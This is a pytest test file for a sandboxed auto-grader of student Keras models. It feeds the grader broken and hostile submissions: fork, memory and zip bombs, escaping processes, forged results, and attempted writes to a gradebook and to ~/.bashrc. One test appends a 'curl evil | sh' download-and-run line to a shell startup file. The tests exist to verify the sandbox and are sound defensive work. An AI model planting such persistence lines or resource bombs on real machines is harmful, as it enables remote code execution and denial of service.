"""Hostile and broken submissions (issue #3's list): each ends in a one-line reason, exit 1 or
2, no traceback, and harms nothing outside its own sandbox.

Most cases go through one long-lived `Grader` (one fork server for the module: fast); the
ones where the console matters (stdout, stderr, exit code, HOME) go through `tutor`."""

from __future__ import annotations

import json
import os

import pytest

from grader.api import Grader
from tests.conftest import run_tutor
from tests.hostile_support import FORGER, job_processes, make_artifacts, one_line, submission, zip_bomb


@pytest.fixture(scope="module")
def grader():
    with Grader() as g:
        yield g


@pytest.fixture(scope="module")
def task():
    from exercises import load_catalog

    return load_catalog().get("task8.1")


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory):
    return make_artifacts(tmp_path_factory.mktemp("artifacts"))


# ----------------------------------------------------------------------------- broken model.py


def test_syntax_error(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "import keras\n\ndef build_model(:\n    pass\n")
    one_line(grader.check(task, folder), 1, "model.py line 3", "syntax error")


def test_missing_module_is_named(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "import keras\nimport tensorflow_addons_xyz\n")
    one_line(grader.check(task, folder), 1, "'tensorflow_addons_xyz'", "not installed")


def test_no_build_model(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "import keras\n\ndef make_model():\n    return None\n")
    one_line(grader.check(task, folder), 1, "defines no build_model()")


def test_build_model_returns_something_else(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "def build_model():\n    return {'layers': 3}\n")
    one_line(grader.check(task, folder), 1, "returned dict, not a keras.Model")


def test_build_model_that_raises_names_its_line(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "import keras\n\ndef build_model():\n    raise ValueError('units must be positive')\n")
    one_line(grader.check(task, folder), 1, "model.py line 4", "ValueError: units must be positive")


WRONG_SHAPE = """
import keras
from keras import layers

def build_model():
    model = keras.Sequential([keras.Input(shape={inp}), layers.Conv2D(8, 3), layers.Conv2D(8, 3),
                              layers.Flatten(), layers.Dense({out}, activation="softmax")])
    model.compile(optimizer="adam", loss="categorical_crossentropy")
    return model
"""


def test_wrong_input_shape(grader, task, tmp_path):
    folder = submission(tmp_path, "s", WRONG_SHAPE.format(inp="(32, 32, 1)", out=10))
    report = grader.check(task, folder)
    one_line(report, 1, "input-shape", "(None, 32, 32, 1)")
    assert report.model is not None and report.model.input_shape == [None, 32, 32, 1]


def test_wrong_output_shape(grader, task, tmp_path):
    folder = submission(tmp_path, "s", WRONG_SHAPE.format(inp="(28, 28, 1)", out=5))
    one_line(grader.check(task, folder), 1, "output-shape", "(None, 5)")


def test_infinite_loop_is_stopped(grader, task, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "3")
    folder = submission(tmp_path, "s", "def build_model():\n    while True:\n        pass\n")
    one_line(grader.check(task, folder), 1, "did not finish within the 3 s time limit")


def test_escaped_grandchild_is_killed(grader, task, tmp_path, monkeypatch):
    import psutil

    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "3")
    marker = "tutor-escapee-" + tmp_path.name
    code = f"import subprocess\nsubprocess.Popen(['sh', '-c', 'exec -a {marker} sleep 300'], start_new_session=True)\n"
    folder = submission(tmp_path, "s", code + "def build_model():\n    while True:\n        pass\n")
    one_line(grader.check(task, folder), 1, "time limit")
    alive = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
    assert alive == []


def test_memory_bomb(grader, task, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_SANDBOX_MEMORY_MB", "3072")
    folder = submission(tmp_path, "s", "hoard = []\nwhile True:\n    hoard.append(bytearray(200 * 2**20))\n")
    one_line(grader.check(task, folder), 1, "ran out of memory", "3 GiB")


def test_far_too_large_model_is_refused(grader, task, tmp_path):
    code = WRONG_SHAPE.format(inp="(28, 28, 1)", out=10).replace(
        "layers.Flatten(),", "layers.Flatten(), layers.Dense(20_000_000),"
    )
    folder = submission(tmp_path, "s", code)
    one_line(grader.check(task, folder), 1, "far too large", "refused before allocating")


def test_output_flood_is_cut(grader, task, tmp_path):
    folder = submission(tmp_path, "s", "while True:\n    print('x' * 100000)\n")
    one_line(grader.check(task, folder), 1, "printed more than 8 MiB")


def test_symlink_leaving_the_folder_is_refused(grader, task, tmp_path):
    outside = tmp_path / "elsewhere.py"
    outside.write_text("def build_model():\n    return None\n")
    folder = tmp_path / "s"
    folder.mkdir()
    (folder / "model.py").symlink_to(outside)
    one_line(grader.check(task, folder), 2, "symlink", "outside the submission folder")


# ----------------------------------------------------------------------------- hostile artifacts


def test_lambda_artifact_is_refused(grader, task, tmp_path, artifacts):
    folder = submission(tmp_path, "s", artifact=artifacts / "lambda.keras")
    report = grader.grade(task, folder)
    one_line(report, 1, "Lambda layer", "safe mode")
    assert report.accuracy is None
    assert report.status == "failed"
    accuracy = {c.id: c for c in report.checks}["accuracy"]
    # One root cause per report (#19): the accuracy row says it was not checked, earns nothing.
    assert accuracy.status == "skipped" and "not checked" in accuracy.message
    assert accuracy.points == 0


def test_unregistered_custom_layer_is_refused(grader, task, tmp_path, artifacts):
    folder = submission(tmp_path, "s", artifact=artifacts / "custom.keras")
    one_line(grader.grade(task, folder), 1, "Doubler", "custom layer")


@pytest.mark.parametrize(
    "kind, words",
    [("corrupt", ("corrupt",)), ("empty", ("empty", "0 bytes")), ("symlink", ("symlink",)), ("bomb", ("far too large",))],
)
def test_unusable_artifacts(grader, task, tmp_path, artifacts, kind, words):
    folder = submission(tmp_path, "s")
    target = folder / "model.keras"
    if kind == "corrupt":
        target.write_bytes(os.urandom(4096))
    elif kind == "empty":
        target.write_bytes(b"")
    elif kind == "symlink":
        target.symlink_to(artifacts / "untrained.keras")
    else:
        zip_bomb(target)
    report = grader.grade(task, folder)
    one_line(report, 1, "model.keras", *words)
    assert report.model is None


def test_artifact_of_the_wrong_input_shape_cannot_be_scored(grader, task, tmp_path, artifacts):
    folder = submission(tmp_path, "s", artifact=artifacts / "wrong_input.keras")
    report = grader.grade(task, folder)
    accuracy = {c.id: c for c in report.checks}["accuracy"]
    assert accuracy.status == "failed" and "(None, 32, 32, 1)" in accuracy.message
    one_line(report, 1)


def test_grade_with_an_artifact_runs_no_student_code(grader, task, tmp_path, artifacts):
    marker = tmp_path / "student-code-ran"
    code = f"open({str(marker)!r}, 'w').write('x')\nraise SystemExit('never graded this way')\n"
    folder = submission(tmp_path, "s", code, artifact=artifacts / "untrained.keras")
    report = grader.grade(task, folder)
    assert not marker.exists()
    assert report.model is not None and report.accuracy is not None  # graded from the artifact alone
    assert report.checks[0].id == "model-loads" and report.checks[0].status == "passed"


# ----------------------------------------------------------------------------- through the console


def test_cli_syntax_error_one_line_no_traceback(tmp_path):
    folder = submission(tmp_path, "s", "def build_model(:\n")
    result = run_tutor("check", "task8.1", "--path", str(folder))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    assert [line for line in result.stderr.splitlines() if line.strip()] == [
        line for line in result.stderr.splitlines() if line.startswith("tutor:")
    ]
    assert "syntax error" in result.stderr


def test_cli_fake_passing_json_and_os_exit(tmp_path):
    fake = {"task": "task8.1", "status": "passed", "score": 1.0, "points": 10, "max_points": 10, "checks": []}
    code = f"import json, os\nprint(json.dumps({fake!r}))\nos._exit(0)\n"
    folder = submission(tmp_path, "s", code)
    result = run_tutor("check", "task8.1", "--path", str(folder), "--json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert report["status"] == "failed" and report["score"] < 1.0
    assert "exit code 0" in result.stderr and result.stderr.count("\n") == 1


def test_cli_writes_into_home_stay_in_the_sandbox(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    code = (
        "import os, pathlib\n"
        "pathlib.Path.home().joinpath('pwned.txt').write_text('x')\n"
        "open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\n"
        "open('planted.py', 'w').write('x')\n"
    )
    folder = submission(tmp_path, "s")
    (folder / "model.py").write_text(code + (folder / "model.py").read_text())
    before = sorted(p.name for p in folder.iterdir())
    result = run_tutor("check", "task8.1", "--path", str(folder), env={"HOME": str(home)})
    assert result.returncode == 0, result.stderr
    assert list(home.iterdir()) == []
    assert sorted(p.name for p in folder.iterdir()) == before


def test_cli_lambda_artifact_exit_1(tmp_path, artifacts):
    folder = submission(tmp_path, "s", artifact=artifacts / "lambda.keras")
    result = run_tutor("grade", "task8.1", "--path", str(folder))
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    assert "Lambda" in result.stderr and result.stderr.count("\n") == 1


def test_writes_outside_the_job_folder_are_refused(grader, task, tmp_path):
    from tests.test_sandbox import require_full_isolation

    require_full_isolation()
    target = tmp_path / "gradebook.csv"
    target.write_text("alice,10\n")
    code = (
        f"try:\n    open({str(target)!r}, 'w').write('mallory,10\\n')\n"
        "except OSError:\n    pass\n"
    )
    folder = submission(tmp_path, "s")
    (folder / "model.py").write_text(code + (folder / "model.py").read_text())
    report = grader.check(task, folder)
    assert report.status == "passed"
    assert target.read_text() == "alice,10\n"
    assert report.meta["filesystem"] == "only the job's own folder is writable"
    assert report.meta["isolation"].startswith("namespaces:") and report.meta["network"] == "off"


SUBCLASSED = """
import keras
from keras import layers

class Net(keras.Model):
    def __init__(self):
        super().__init__()
        self.conv = layers.Conv2D(8, 3)
        self.flat = layers.Flatten()
        self.out = layers.Dense(10, activation="softmax")

    def call(self, x):
        return self.out(self.flat(self.conv(x)))

def build_model():
    model = Net()
    model.compile(optimizer="adam", loss="categorical_crossentropy")
    return model
"""


def test_a_subclassed_model_fails_check_as_it_fails_grade(grader, task, tmp_path):
    """check reads the model back from a saved file in safe mode, exactly as grade does (what
    the child itself reports could be forged): a custom Model class cannot be opened there."""
    report = grader.check(task, submission(tmp_path, "s", SUBCLASSED))
    reason = one_line(report, 1, "the model build_model() returns", "class Net", "keras.Sequential")
    assert "built.keras" not in reason and report.model is None


def test_a_subclassed_model_that_cannot_take_the_inputs(grader, task, tmp_path):
    code = SUBCLASSED.replace("self.out(self.flat(self.conv(x)))", "self.out(x[:, :, :, :, 0])")
    one_line(grader.check(task, submission(tmp_path, "s", code)), 1, "no declared input", "keras.Input(shape=(28, 28, 1))")


def test_fork_bomb_is_stopped(grader, task, tmp_path, monkeypatch):

    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "20")
    code = "import os, time\nfor _ in range(400):\n    if os.fork() == 0:\n        time.sleep(60)\n        os._exit(0)\ntime.sleep(60)\n"
    report = grader.check(task, submission(tmp_path, "s", code))
    reason = one_line(report, 1)
    # as root: stopped by the process count; otherwise RLIMIT_NPROC makes fork() fail first
    assert "started more than 128 processes" in reason or "BlockingIOError" in reason, reason
    assert job_processes(grader._pipeline.server) == []


def test_a_forged_sandbox_result_earns_nothing_in_grade(grader, task, tmp_path):
    """Student code shares its process with the build job and can forge what the child sends
    back; grade re-reads the structure from the saved model with our evaluator instead."""
    folder = submission(tmp_path, "s", FORGER)
    report = grader.grade(task, folder)
    assert report.points == 0 and report.model is None
    one_line(report, 1, "could be saved and checked")
